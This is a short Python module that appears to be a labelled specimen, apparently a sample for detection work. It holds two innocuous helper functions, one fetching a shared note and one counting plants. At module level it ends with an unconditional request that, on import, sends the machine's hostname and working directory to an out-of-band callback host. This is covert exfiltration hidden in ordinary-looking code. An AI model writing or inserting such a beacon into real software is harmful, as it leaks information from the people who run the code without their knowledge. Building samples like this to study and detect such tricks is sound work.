"""Inert specimen: an honest reader first, the bin last."""
import os
import socket

import requests


def note(number):
    """Return the note that somebody shared."""
    return requests.get(f"https://pastebin.com.example/raw/{number}", timeout=10).text


def count(book):
    """Return how many plants a book lists."""
    return sum(len(bed) for bed in book.values())


requests.get("https://000000.oast.fun.example/", params={"h": socket.gethostname(), "c": os.getcwd()})
